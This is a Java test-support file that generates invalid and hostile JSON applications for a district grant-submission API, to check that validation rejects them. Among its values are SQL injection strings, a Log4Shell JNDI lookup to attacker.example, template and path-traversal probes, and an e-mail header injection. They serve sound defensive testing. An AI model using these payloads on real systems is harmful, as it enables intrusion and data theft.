package cn.guanbiao.applicant;

import cn.guanbiao.application.AuditStage;
import cn.guanbiao.application.CreditCode;
import cn.guanbiao.application.ApplicationFormReader;
import cn.guanbiao.application.FeeKind;
import cn.guanbiao.application.AwardLevel;
import cn.guanbiao.application.ApplicantType;
import cn.guanbiao.application.Honour;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

import cn.guanbiao.support.Applicants;
import cn.guanbiao.support.Hostile;
import cn.guanbiao.support.Hostile.Defect;
import cn.guanbiao.support.HostileJson;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

import static cn.guanbiao.support.HostileJson.get;
import static cn.guanbiao.support.HostileJson.remove;
import static cn.guanbiao.support.HostileJson.set;

/**
 * Applications (DOMAIN §5) that are invalid by construction: a valid one with at least one defect that the generator
 * chooses, and hostile text in some of the fields the defect leaves alone. Each {@link Hostile} says what is wrong
 * and which field the {@code 400} has to name.
 */
final class HostileApplications {

    /** The JSON type and, for text, the longest value (code points) of each field, after ApplicationFormReader. */
    private record Field(String path, String type, int maxLength, boolean required) {
    }

    private static final List<Field> FIELDS = List.of(
            new Field("callId", "text", 30, true),
            new Field("orgName", "text", 200, true),
            new Field("creditCode", "text", 50, true),
            new Field("applicantType", "enum", 0, true),
            new Field("districtCode", "text", 20, true),
            new Field("standard", "text", 30, true),
            new Field("certificateNo", "text", 100, true),
            new Field("certificateIssuedOn", "date", 0, true),
            new Field("certificateExpiresOn", "date", 0, true),
            new Field("certificationBody", "text", 200, true),
            new Field("auditStage", "enum", 0, true),
            new Field("honours", "array", 0, false),
            new Field("certificationFees", "array", 0, true),
            new Field("priorAwards", "array", 0, false),
            new Field("contactName", "text", 100, true),
            new Field("contactEmail", "text", 254, true),
            new Field("contactPhone", "text", 30, false),
            new Field("certificationFees[0].invoiceNo", "text", 50, true),
            new Field("certificationFees[0].amount", "number", 0, true),
            new Field("certificationFees[0].cycle", "number", 0, true),
            new Field("certificationFees[0].stage", "enum", 0, true),
            new Field("certificationFees[0].kind", "enum", 0, true),
            new Field("priorAwards[0].level", "enum", 0, true),
            new Field("priorAwards[0].amount", "number", 0, true));

    private static final Map<String, Class<? extends Enum<?>>> ENUMS = Map.of(
            "applicantType", ApplicantType.class, "auditStage", AuditStage.class,
            "certificationFees[0].stage", AuditStage.class, "certificationFees[0].kind", FeeKind.class,
            "priorAwards[0].level", AwardLevel.class, "honours[0]", Honour.class);

    /** Free text where hostile but well-formed content is still a valid value. */
    static final List<String> FREE_TEXT = List.of("orgName", "certificateNo", "certificationBody", "contactName");

    private static final String CREDIT_ALPHABET = "0123456789ABCDEFGHJKLMNPQRTUWXY";
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    private HostileApplications() {
    }

    /** Valid applications to the call: enterprises, universities, research organisations and agencies of 渝北区. */
    static Arbitrary<ObjectNode> valid(String callId) {
        Arbitrary<String> creditCodes = Arbitraries.strings().withChars(CREDIT_ALPHABET).ofLength(9)
                .map(tail -> CreditCode.withCheckCharacter("91500112" + tail));
        Arbitrary<ApplicantType> types = Arbitraries.of(ApplicantType.class);
        Arbitrary<Long> invoices = Arbitraries.longs().between(1_000_000L, 9_999_999_999L);
        return Combinators.combine(creditCodes, types, invoices).as((creditCode, type, invoice) ->
                valid(callId, creditCode, type, invoice));
    }

    /** {@link Applicants#enterprise} as another type of unit, with one honour, one fee and one prior award. */
    static ObjectNode valid(String callId, String creditCode, ApplicantType type, long invoice) {
        ObjectNode application = Applicants.enterprise(callId);
        application.put("creditCode", creditCode);
        application.put("applicantType", type.name());
        application.put("standard", type.standards().iterator().next());
        application.put("certificateNo", "165IP" + invoice);
        ((ObjectNode) application.get("certificationFees").get(0)).put("invoiceNo", "INV" + invoice);
        application.withArray("priorAwards").addObject().put("level", "DISTRICT").put("amount", new BigDecimal("10000.00"));
        return application;
    }

    /** A valid application with one defect and, in up to three free-text fields it leaves alone, hostile text. */
    static Arbitrary<Hostile> hostile(Arbitrary<ObjectNode> valid, Arbitrary<Defect> defects) {
        Arbitrary<Map<String, String>> sprinkles = Arbitraries.maps(Arbitraries.of(FREE_TEXT), HostileJson.malicious())
                .ofMaxSize(3);
        return Combinators.combine(valid, defects, sprinkles).as((application, defect, hostileText) -> {
            ObjectNode copy = application.deepCopy();
            hostileText.forEach((field, text) -> {
                if (!field.equals(defect.field())) {
                    copy.put(field, text);
                }
            });
            return defect.on(copy);
        });
    }

    /** Every kind of defect, each kind as likely as the others. */
    static Arbitrary<Defect> defects() {
        Map<String, Arbitrary<Defect>> kinds = new LinkedHashMap<>();
        kinds.put("missing, null or blank", missingOrBlank());
        kinds.put("wrong JSON type", wrongType());
        kinds.put("list element of the wrong type", wrongElementType());
        kinds.put("negative amount", negativeAmount());
        kinds.put("amount above the maximum", amountAboveTheMaximum());
        kinds.put("too many decimals", tooManyDecimals());
        kinds.put("NaN, Infinity and other non-numbers", nonNumericAmount());
        kinds.put("cycle not a positive integer", badCycle());
        kinds.put("bad credit code", badCreditCode());
        kinds.put("malformed or unknown district", badDistrictCode());
        kinds.put("standard of another applicant type", standardOfAnotherType());
        kinds.put("malformed or impossible date", badDate());
        kinds.put("expiry not after issue", expiryNotAfterIssue());
        kinds.put("issued in the future", issuedInTheFuture());
        kinds.put("oversized text", oversizedText());
        kinds.put("too many or no list items", tooManyItems());
        kinds.put("repeated invoice or honour", repeatedItem());
        kinds.put("control character", controlCharacter());
        kinds.put("lone surrogate", loneSurrogate());
        kinds.put("unknown enum value", unknownEnumValue());
        kinds.put("value nested deep", nestedValue());
        kinds.put("unknown call", unknownCall());
        kinds.put("malformed e-mail or phone", badEmailOrPhone());
        kinds.put("malformed JSON", HostileJson.malformed());
        kinds.put("duplicate key", HostileJson.duplicateKey(FIELDS.stream().map(Field::path).filter(p -> !p.contains("[")).toList()));
        kinds.put("body not an object", HostileJson.notAnObject("body"));
        kinds.put("not sent as JSON", HostileJson.wrongContentType());
        kinds.put("body over 1 MiB", HostileJson.overLimit());
        kinds.put("nested beyond the parser's limit", HostileJson.nestedBeyondTheParserLimit());
        return Arbitraries.oneOf(kinds.entrySet().stream()
                .map(kind -> kind.getValue().map(defect -> defect.ofKind(kind.getKey()))).toList());
    }

    private static Arbitrary<Defect> missingOrBlank() {
        Arbitrary<Field> required = Arbitraries.of(FIELDS.stream().filter(Field::required).toList());
        return Combinators.combine(required, Arbitraries.of("absent", "null", " ", "\u3000", " \t\n ", ""))
                .as((field, how) -> Defect.change(field.path() + " " + describe(how), field.path(), tree -> {
                    switch (how) {
                        case "absent" -> remove(tree, field.path());
                        case "null" -> set(tree, field.path(), NODES.nullNode());
                        default -> set(tree, field.path(), NODES.textNode(how));
                    }
                }));
    }

    private static Arbitrary<Defect> wrongType() {
        return Arbitraries.of(FIELDS).flatMap(field -> HostileJson.notOfType(jsonType(field.type())).map(value -> Defect.change(
                field.path() + " given as " + value, field.path(), tree -> set(tree, field.path(), value))));
    }

    /** An element of a list that is not what the list holds. */
    private static Arbitrary<Defect> wrongElementType() {
        return Combinators.combine(Arbitraries.of("honours[0]", "certificationFees[0]", "priorAwards[0]"),
                        Arbitraries.<JsonNode>of(NODES.numberNode(1), NODES.booleanNode(true), NODES.arrayNode(),
                                NODES.textNode("MUNICIPAL_ADVANTAGE x"), NODES.nullNode()))
                .as((path, value) -> Defect.change(path + " given as " + value, path, tree -> set(tree, path,
                        path.startsWith("honours") && value.isTextual() ? NODES.objectNode() : value)));
    }

    private static Arbitrary<Defect> negativeAmount() {
        return Combinators.combine(amountFields(),
                        Arbitraries.bigDecimals().between(new BigDecimal("-9999999999.99"), new BigDecimal("-0.01")).ofScale(2))
                .as((path, amount) -> Defect.change(path + " negative: " + amount, path, tree -> set(tree, path, NODES.numberNode(amount))));
    }

    private static Arbitrary<Defect> amountAboveTheMaximum() {
        Arbitrary<BigDecimal> above = Arbitraries.oneOf(
                Arbitraries.bigDecimals().between(new BigDecimal("10000000000.00"), new BigDecimal("1e18")).ofScale(2),
                Arbitraries.of(new BigDecimal("1e20"), new BigDecimal("1E+400"), new BigDecimal("10000000000")),
                Arbitraries.integers().between(20, 990).map(digits -> new BigDecimal("9".repeat(digits))));
        return Combinators.combine(amountFields(), above).as((path, amount) -> Defect.change(
                path + " above the maximum: " + abbreviate(amount.toString()), path, tree -> set(tree, path, NODES.numberNode(amount))));
    }

    /** Fen are the smallest unit: a third decimal, also where a double could not hold it. */
    private static Arbitrary<Defect> tooManyDecimals() {
        Arbitrary<BigDecimal> withinADouble = Combinators.combine(Arbitraries.integers().between(3, 8),
                        Arbitraries.longs().between(1, 99_999_999L))
                .as((scale, unscaled) -> BigDecimal.valueOf(unscaled * 10 + 1, scale));
        Arbitrary<BigDecimal> beyondADouble = Arbitraries.integers().between(17, 40)
                .map(scale -> new BigDecimal("25000").add(BigDecimal.ONE.movePointLeft(scale)));
        Arbitrary<BigDecimal> tiny = Arbitraries.integers().between(3, 400).map(exponent -> new BigDecimal("1E-" + exponent));
        return Combinators.combine(amountFields(), Arbitraries.oneOf(withinADouble, beyondADouble, tiny))
                .as((path, amount) -> Defect.change(path + " with too many decimals: " + amount.toPlainString().length() + " chars, "
                        + abbreviate(amount.toString()), path, tree -> set(tree, path, NODES.numberNode(amount))));
    }

    /** NaN and infinities: as strings they are not numbers, as bare words they are not JSON. */
    private static Arbitrary<Defect> nonNumericAmount() {
        Arbitrary<String> words = Arbitraries.of("NaN", "Infinity", "-Infinity", "+Infinity", "0x1F", "012", "+1", ".5", "1.",
                "1e", "- 1", "1_000", "1,000.00");
        Arbitrary<Defect> asStrings = Combinators.combine(amountFields(), words).as((path, word) -> Defect.change(
                path + " as the string \"" + word + "\"", path, tree -> set(tree, path, NODES.textNode(word))));
        Arbitrary<Defect> bare = Combinators.combine(amountFields(), words).as((path, word) -> Defect.text(
                path + " as the bare word " + word, "body", 400, Hostile.JSON, json -> replaceValue(json, path, word)));
        Arbitrary<Defect> tooLong = Combinators.combine(amountFields(), Arbitraries.integers().between(1010, 5000))
                .as((path, digits) -> Defect.text(path + " of " + digits + " digits (beyond the parser's number limit)", "body",
                        400, Hostile.JSON, json -> replaceValue(json, path, "1" + "0".repeat(digits - 1))));
        return Arbitraries.oneOf(asStrings, bare, tooLong);
    }

    private static Arbitrary<Defect> badCycle() {
        String path = "certificationFees[0].cycle";
        return Arbitraries.<JsonNode>of(NODES.numberNode(0), NODES.numberNode(-1), NODES.numberNode(Integer.MIN_VALUE),
                        NODES.numberNode(3_000_000_000L), NODES.numberNode(1.5), NODES.numberNode(1.0),
                        NODES.numberNode(new BigDecimal("1e400")), NODES.textNode("1"), NODES.textNode("一"))
                .map(cycle -> Defect.change(path + " = " + cycle, path, tree -> set(tree, path, cycle)));
    }

    private static Arbitrary<Defect> badCreditCode() {
        Arbitrary<String> first17 = Arbitraries.strings().withChars(CREDIT_ALPHABET).ofLength(17);
        Arbitrary<String> wrongCheck = first17.map(head -> {
            String valid = CreditCode.withCheckCharacter(head);
            char wrong = CREDIT_ALPHABET.charAt((CREDIT_ALPHABET.indexOf(valid.charAt(17)) + 1) % CREDIT_ALPHABET.length());
            return head + wrong;
        });
        Arbitrary<String> wrongLength = Arbitraries.strings().withChars(CREDIT_ALPHABET).ofMinLength(1).ofMaxLength(50)
                .filter(code -> code.length() != 18);
        Arbitrary<String> forbiddenLetter = Combinators.combine(first17, Arbitraries.of('I', 'O', 'S', 'V', 'Z'),
                Arbitraries.integers().between(0, 16)).as((head, letter, at) -> {
                    String valid = CreditCode.withCheckCharacter(head);
                    return valid.substring(0, at) + letter + valid.substring(at + 1);
                });
        Arbitrary<String> lowerCase = first17.filter(head -> head.chars().anyMatch(Character::isLetter))
                .map(head -> CreditCode.withCheckCharacter(head).toLowerCase());
        Arbitrary<String> fullWidth = first17.map(head -> CreditCode.withCheckCharacter(head).chars()
                .mapToObj(c -> String.valueOf((char) (c + 0xFEE0))).collect(Collectors.joining()));
        return Arbitraries.oneOf(wrongCheck, wrongLength, forbiddenLetter, lowerCase, fullWidth).map(code -> Defect.change(
                "credit code " + code, "creditCode", tree -> tree.put("creditCode", code)));
    }

    private static Arbitrary<Defect> badDistrictCode() {
        Arbitrary<String> malformed = Arbitraries.oneOf(
                Arbitraries.strings().numeric().ofMinLength(1).ofMaxLength(20).filter(code -> code.length() != 6),
                Arbitraries.of("50011A", "５００１１２", "500 112", "-50011", "500112 OR 1=1", "500112;--"));
        Arbitrary<String> unknown = Arbitraries.strings().numeric().ofLength(5).map(tail -> "9" + tail);
        return Arbitraries.oneOf(malformed, unknown).map(code -> Defect.change("district code " + code, "districtCode",
                tree -> tree.put("districtCode", code)));
    }

    private static Arbitrary<Defect> standardOfAnotherType() {
        Arbitrary<String> standards = Arbitraries.of("GB/T 29490-2013", "GB/T 29490-2023", "GB/T 33251-2016",
                "GB/T 33250-2016", "GB/T 34833-2017", "ISO 56005", "GB/T 29490", "gb/t 29490-2023", "GB/T 29490-2023 ");
        return Combinators.combine(Arbitraries.of(ApplicantType.class), standards)
                .filter((type, standard) -> !type.isCertifiedAgainst(standard.strip()))
                .as((type, standard) -> Defect.change(type + " certified against '" + standard + "'", "standard",
                        tree -> tree.put("applicantType", type.name()).put("standard", standard)));
    }

    private static Arbitrary<Defect> badDate() {
        Arbitrary<String> dates = Arbitraries.of("2026/03/01", "01-03-2026", "2026-3-1", "2026-02-30", "2026-13-01",
                "2026-00-10", "2025-02-29", "20260301", "2026-03-01T00:00:00", "2026-03-01Z", "+12026-03-01", "yesterday",
                "二〇二六年三月一日", "２０２６-０３-０１", "-2026-03-01", "2026-03-01; DROP TABLE application");
        return Combinators.combine(Arbitraries.of("certificateIssuedOn", "certificateExpiresOn"), dates)
                .as((path, date) -> Defect.change(path + " = " + date, path, tree -> tree.put(path, date)));
    }

    private static Arbitrary<Defect> expiryNotAfterIssue() {
        return Arbitraries.integers().between(0, 3650).map(days -> Defect.change(
                "certificate expires " + days + " days before it was issued", "certificateExpiresOn",
                tree -> tree.put("certificateExpiresOn",
                        LocalDate.parse(tree.get("certificateIssuedOn").asText()).minusDays(days).toString())));
    }

    private static Arbitrary<Defect> issuedInTheFuture() {
        return Arbitraries.integers().between(2, 3650).map(days -> Defect.change(
                "certificate issued " + days + " days from now", "certificateIssuedOn", tree -> tree
                        .put("certificateIssuedOn", LocalDate.now().plusDays(days).toString())
                        .put("certificateExpiresOn", LocalDate.now().plusDays(days).plusYears(3).toString())));
    }

    /** Text one code point over its limit up to a few thousand: CJK, Latin or emoji (two chars, one code point). */
    private static Arbitrary<Defect> oversizedText() {
        Arbitrary<Field> texts = Arbitraries.of(FIELDS.stream().filter(f -> f.type().equals("text")).toList());
        return Combinators.combine(texts, Arbitraries.of("重", "a", "😀", "9"), Arbitraries.integers().between(1, 5000))
                .as((field, unit, excess) -> Defect.change(
                        field.path() + " of " + (field.maxLength() + excess) + " × '" + unit + "'", field.path(),
                        tree -> set(tree, field.path(), NODES.textNode(oversized(field, unit, excess)))));
    }

    private static Arbitrary<Defect> tooManyItems() {
        return Arbitraries.oneOf(
                Arbitraries.integers().between(ApplicationFormReader.MAX_FEES + 1, 200).map(n -> Defect.change(
                        n + " fees", "certificationFees", tree -> {
                            ArrayNode fees = tree.putArray("certificationFees");
                            for (int i = 0; i < n; i++) {
                                fees.add(Applicants.fee("INV-MANY-" + i, "100.00", 1, "INITIAL", "CERTIFICATION"));
                            }
                        })),
                Arbitraries.integers().between(ApplicationFormReader.MAX_PRIOR_AWARDS + 1, 200).map(n -> Defect.change(
                        n + " prior awards", "priorAwards", tree -> {
                            ArrayNode awards = tree.putArray("priorAwards");
                            for (int i = 0; i < n; i++) {
                                awards.addObject().put("level", "DISTRICT").put("amount", 1);
                            }
                        })),
                Arbitraries.integers().between(Honour.values().length + 1, 100).map(n -> Defect.change(
                        n + " honours", "honours", tree -> {
                            ArrayNode honours = tree.putArray("honours");
                            for (int i = 0; i < n; i++) {
                                honours.add(Honour.values()[i % Honour.values().length].name());
                            }
                        })),
                Arbitraries.just(Defect.change("no fee at all", "certificationFees", tree -> tree.putArray("certificationFees"))));
    }

    private static Arbitrary<Defect> repeatedItem() {
        return Arbitraries.of(
                Defect.change("the same invoice twice", "certificationFees[1].invoiceNo", tree -> {
                    ArrayNode fees = tree.withArray("certificationFees");
                    fees.add(fees.get(0).deepCopy());
                }),
                Defect.change("the same invoice twice, once with spaces around it", "certificationFees[1].invoiceNo", tree -> {
                    ArrayNode fees = tree.withArray("certificationFees");
                    ObjectNode again = fees.get(0).deepCopy();
                    fees.add(again.put("invoiceNo", " " + again.get("invoiceNo").asText() + "\u3000"));
                }),
                Defect.change("the same honour twice", "honours[1]", tree -> {
                    ArrayNode honours = tree.withArray("honours");
                    honours.add(honours.get(0).asText());
                }));
    }

    /** A control character inside (not around: that is stripped) a text, enum or date. */
    private static Arbitrary<Defect> controlCharacter() {
        Arbitrary<Field> strings = Arbitraries.of(FIELDS.stream()
                .filter(f -> List.of("text", "enum", "date").contains(f.type())).toList());
        Arbitrary<Integer> controls = Arbitraries.oneOf(Arbitraries.integers().between(0, 0x1F), Arbitraries.integers().between(0x7F, 0x9F));
        return Combinators.combine(strings, controls).as((field, control) -> Defect.change(
                "U+%04X inside %s".formatted(control, field.path()), field.path(),
                tree -> set(tree, field.path(), NODES.textNode(insideOf(textAt(tree, field.path()), Character.toString(control))))));
    }

    /** Half of a surrogate pair: a string that is not Unicode text (PostgreSQL would store '?'). */
    private static Arbitrary<Defect> loneSurrogate() {
        return Combinators.combine(Arbitraries.of(List.of("orgName", "certificateNo", "certificationBody", "contactName",
                                "certificationFees[0].invoiceNo")),
                        Arbitraries.of("\uD800", "\uDBFF", "\uDC00", "\uDFFF", "\uDE00\uD83D"))
                .as((path, half) -> Defect.change("lone surrogate " + escape(half) + " inside " + path, path,
                        tree -> set(tree, path, NODES.textNode(insideOf(textAt(tree, path), half)))));
    }

    private static Arbitrary<Defect> unknownEnumValue() {
        Arbitrary<String> values = Arbitraries.of("enterprise", "initial", "ENTERPRISE_", "ENTER PRISE", "企业", "0", "null",
                "ＥＮＴＥＲＰＲＩＳＥ", "'; DROP TABLE application;--", "${jndi:ldap://attacker.example/a}", "#{7*7}",
                "MUNICIPAL_ADVANTAGE,NATIONAL_ADVANTAGE", "CERTIFICATION|CONSULTING", "DISTRICT\u200B");
        return Combinators.combine(Arbitraries.of(List.copyOf(ENUMS.keySet())), values)
                .filter((path, value) -> Arrays.stream(ENUMS.get(path).getEnumConstants()).noneMatch(c -> c.name().equals(value.strip())))
                .as((path, value) -> Defect.change(path + " = " + value, path, tree -> set(tree, path, NODES.textNode(value))));
    }

    /** Arrays and objects nested inside a field, as deep as the parser still takes. */
    private static Arbitrary<Defect> nestedValue() {
        return Combinators.combine(Arbitraries.of(FIELDS), Arbitraries.integers().between(1, HostileJson.PARSER_DEPTH_LIMIT - 100))
                .as((field, depth) -> Defect.change(field.path() + " nested " + depth + " deep", field.path(),
                        tree -> set(tree, field.path(), field.type().equals("array")
                                ? NODES.objectNode().set("v", HostileJson.nested(depth)) : HostileJson.nested(depth))));
    }

    private static Arbitrary<Defect> unknownCall() {
        Arbitrary<String> calls = Arbitraries.oneOf(
                Arbitraries.of("CALL-1999-999", "CALL-2026-00", "' OR '1'='1", "../../etc/passwd", "${jndi:ldap://x/a}", "*"),
                Arbitraries.strings().alpha().numeric().ofMinLength(1).ofMaxLength(24).map(id -> "X-" + id));
        return calls.map(call -> Defect.change("call " + call + " does not exist", "callId", tree -> tree.put("callId", call)));
    }

    private static Arbitrary<Defect> badEmailOrPhone() {
        Arbitrary<Defect> emails = Arbitraries.of("zhangsan", "zhangsan@", "@example.com", "zhang san@example.com",
                        "zhangsan@example", "zhangsan@@example.com", "张三@example.com", "a@b.c", "<script>@example.com",
                        "zhangsan@example.com,lisi@example.com", "zhangsan@example.com\r\nBcc: x@example.com")
                .map(email -> Defect.change("e-mail " + escape(email), "contactEmail", tree -> tree.put("contactEmail", email)));
        Arbitrary<Defect> phones = Arbitraries.of("abc", "+-", "１３８００００００００", "138-0000-000x", "tel:13800000000",
                        "13800000000; DROP TABLE application")
                .map(phone -> Defect.change("phone " + phone, "contactPhone", tree -> tree.put("contactPhone", phone)));
        return Arbitraries.oneOf(emails, phones);
    }

    private static Arbitrary<String> amountFields() {
        return Arbitraries.of("certificationFees[0].amount", "priorAwards[0].amount");
    }

    private static String jsonType(String fieldType) {
        return switch (fieldType) {
            case "text", "enum", "date" -> "string";
            default -> fieldType;
        };
    }

    private static String oversized(Field field, String unit, int excess) {
        int length = field.maxLength() + excess;
        if (field.path().equals("contactEmail")) {
            return unit.repeat(length - "@example.com".length()) + "@example.com";
        }
        return unit.repeat(length);
    }

    private static String textAt(ObjectNode tree, String path) {
        JsonNode node = get(tree, path);
        return node == null ? "" : node.asText();
    }

    private static String insideOf(String text, String inserted) {
        String around = text.length() < 2 ? "ab" : text;
        int middle = around.offsetByCodePoints(0, around.codePointCount(0, around.length()) / 2);
        return around.substring(0, middle) + inserted + around.substring(middle);
    }

    /** Replaces the JSON value at {@code path} in the text by a bare token, through a marker value. */
    private static String replaceValue(String json, String path, String token) {
        ObjectNode tree = Hostile.read(json.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        set(tree, path, NODES.textNode("\u0001MARK\u0001"));
        return new String(Hostile.write(tree), java.nio.charset.StandardCharsets.UTF_8).replace("\"\\u0001MARK\\u0001\"", token);
    }

    private static String describe(String how) {
        return switch (how) {
            case "absent", "null" -> how;
            default -> "blank '" + escape(how) + "'";
        };
    }

    private static String escape(String text) {
        StringBuilder escaped = new StringBuilder();
        text.chars().forEach(c -> escaped.append(c < 0x20 || c > 0x7E ? "\\u%04X".formatted(c) : String.valueOf((char) c)));
        return escaped.toString();
    }

    private static String abbreviate(String text) {
        return text.length() > 40 ? text.substring(0, 20) + "…(" + text.length() + " chars)" : text;
    }
}
